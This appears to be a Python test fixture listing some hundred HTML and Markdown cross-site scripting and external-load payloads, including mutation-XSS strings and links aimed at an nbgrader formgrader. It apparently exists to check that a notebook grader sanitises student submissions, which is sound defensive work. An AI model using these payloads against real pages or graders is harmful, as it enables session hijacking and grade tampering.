"""Markup with which a submission tries to act in the browser of whoever looks at it.

``RUN`` stands for a script that tells the test its name, ``AWAY`` for an address elsewhere.
"""

from __future__ import annotations

# Each runs its script as soon as a browser parses it.
RUNS = {
    "script": "<script>RUN</script>",
    "script_of_data": '<script src="data:text/javascript,RUN"></script>',
    "module": '<script type="module">RUN</script>',
    "image_that_fails": '<img src=x onerror="RUN">',
    "capitals": '<IMG SRC=x ONERROR="RUN">',
    "slashes_for_spaces": "<img/src='x'/onerror=RUN>",
    "lines_in_a_tag": "<img src=x\nonerror\n=\n'RUN'\n>",
    "entities_in_a_handler": '<img src=x onerror="&#x20;RUN">',
    "drawing": '<svg onload="RUN"></svg>',
    "script_in_a_drawing": "<svg><script>RUN</script></svg>",
    "animation": '<svg><animate onbegin="RUN" attributeName="x" dur="1s"></svg>',
    "style_in_a_drawing": '<svg><style><img src=x onerror="RUN"></style></svg>',
    "body": '<body onload="RUN">',
    "frame_with_source": '<iframe srcdoc="<script>RUN</script>"></iframe>',
    "frame_of_script": '<iframe src="javascript:RUN"></iframe>',
    "frame_of_data": '<iframe src="data:text/html,<script>RUN</script>"></iframe>',
    "object": '<object data="data:text/html,<script>RUN</script>"></object>',
    "embedded": '<embed src="data:text/html,<script>RUN</script>">',
    "details": '<details open ontoggle="RUN"><summary>s</summary></details>',
    "sound": '<audio src=x onerror="RUN"></audio>',
    "film": '<video><source src=x onerror="RUN"></video>',
    "style_sheet": '<style onload="RUN">p {}</style>',
    "link": '<link rel="stylesheet" href="data:text/css,p{}" onload="RUN">',
    "transition": '<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="RUN">',
    "comment_that_ends": '<!--><img src=x onerror="RUN">-->',
    "comment_with_bang": '<!-- --!><img src=x onerror="RUN">-->',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
    "textarea": '<textarea></textarea><img src=x onerror="RUN"></textarea>',
    "title": '<title></title><img src=x onerror="RUN"></title>',
    "declaration": '<![CDATA[><img src=x onerror="RUN">]]>',
    "instruction": '<?php ><img src=x onerror="RUN"> ?>',
    "formula": '<math><mtext><img src=x onerror="RUN"></mtext></math>',
    "foreign_object": '<svg><foreignObject><img src=x onerror="RUN"></foreignObject></svg>',
    "table_that_is_none": '<table><td><img src=x onerror="RUN"><tr></table>',
    "select": '<select><option></select><img src=x onerror="RUN">',
}
# Each loads something from elsewhere.
LOADS = {
    "image": '<img src="AWAY">',
    "image_without_scheme": '<img src="//away.example/NAME">',
    "sources": '<img srcset="AWAY 1x">',
    "picture": '<picture><source srcset="AWAY"><img></picture>',
    "poster": '<video poster="AWAY"></video>',
    "film_away": '<video src="AWAY"></video>',
    "style": '<p style="background:url(AWAY)">x</p>',
    "style_escaped": r'<p style="background:u\72l(AWAY)">x</p>',
    "style_of_list": '<ul><li style="list-style-image:url(AWAY)">x</ul>',
    "rule": "<style>p{background:url(AWAY)}</style><p>x</p>",
    "import": '<style>@import "AWAY";</style>',
    "sheet": '<link rel="stylesheet" href="AWAY">',
    "icon": '<link rel="preload" as="image" href="AWAY">',
    "frame": '<iframe src="AWAY"></iframe>',
    "object_away": '<object data="AWAY"></object>',
    "embed_away": '<embed src="AWAY">',
    "button": '<input type="image" src="AWAY">',
    "background": '<table background="AWAY"><td>x</td></table>',
    "drawing_of_image": '<svg><image href="AWAY"></image></svg>',
    "refresh": '<meta http-equiv="refresh" content="0;url=AWAY">',
    "base": '<base href="http://away.example/"><img src="NAME">',
    "script_away": '<script src="AWAY"></script>',
}
# Each waits to be clicked, or to be parsed once more, or lies over the page.
WAITS = {
    "no_end_of_tag": '<p>so <img src=x onerror="RUN" ',
    "focus": '<input autofocus onfocus="RUN">',
    "focus_of_anything": '<p tabindex=0 autofocus onfocus="RUN">x</p>',
    "link_of_script": '<a href="javascript:RUN">x</a>',
    "link_with_tab": '<a href="java&#9;script:RUN">x</a>',
    "link_of_data": '<a href="data:text/html,<script>RUN</script>">x</a>',
    "link_in_drawing": '<svg><a xlink:href="javascript:RUN"><text>x</text></a></svg>',
    "link_to_formgrader": '<a href="/formgrader/manage_submissions/%22;RUN;%22">x</a>',
    "link_to_this_host": '<a href="http://127.0.0.1:8888/formgrader/">x</a>',
    "form": '<form action="javascript:RUN"><button>x</button></form>',
    "form_of_button": '<form><button formaction="javascript:RUN">x</button></form>',
    "map": '<map><area href="javascript:RUN"></map>',
    "tooltip": '<b data-toggle="tooltip" data-html="true" title="<img src=x onerror=RUN>">x</b>',
    "dialogue": '<a data-toggle="modal" data-target="<img src=x onerror=RUN>">x</a>',
    "data_link": '<a data-link="javascript:RUN">x</a>',
    "overlay": '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
    "name_of_a_part": '<p class="nbgrader_cell"><b id="grade_train_one_epoch">x</b></p>',
    "mutation_glyph": (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=RUN&gt;">'
    ),
    "mutation_form": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN></style>"
    ),
    "mutation_select": '<svg></p><style><a id="</style><img src=1 onerror=RUN>">',
    "mutation_template": '<template><img src=x onerror="RUN"></template>',
}
MARKDOWN = {
    "md_link": "[x](javascript:RUN)",
    "md_link_encoded": "[x](java%73cript:RUN) [x](&#106;avascript:RUN)",
    "md_reference": "[x][y]\n\n[y]: javascript:RUN",
    "md_autolink": "<javascript:RUN>",
    "md_image": "![x](AWAY)",
    "md_image_title": '![x](x.png "\\" onerror=\\"RUN")',
    "md_image_quote": '![" onerror="RUN](x)',
    "md_mermaid": '```mermaid\n<img src=x onerror="RUN">\n```',
    "md_info": '```"><img src=x onerror="RUN">\ncode\n```',
    "md_heading": '# <img src=x onerror="RUN">',
    "md_table": '| a |\n|---|\n| <img src=x onerror="RUN"> |',
    "md_formula": r"$x$ $\href{javascript:RUN}{x}$ $</script><script>RUN</script>$",
    "md_formula_block": '$$\n<img src=x onerror="RUN">\n$$',
    "md_code_after_blank": '<pre>\n\n[x](javascript:RUN)\n\n<img src=x onerror="RUN">\n</pre>',
    "md_attachment": "![x](attachment:x.svg)",
    "md_attachment_missing": '![x](attachment:none.png) <img src=x onerror="RUN">',
}


def filled(markup: str, name: str) -> str:
    """Return markup with its script and address; a name is told by what runs or is loaded."""
    made = markup.replace("AWAY", f"http://away.example/{name}").replace("NAME", name)
    return made.replace("RUN", f"ran(`{name}`)")
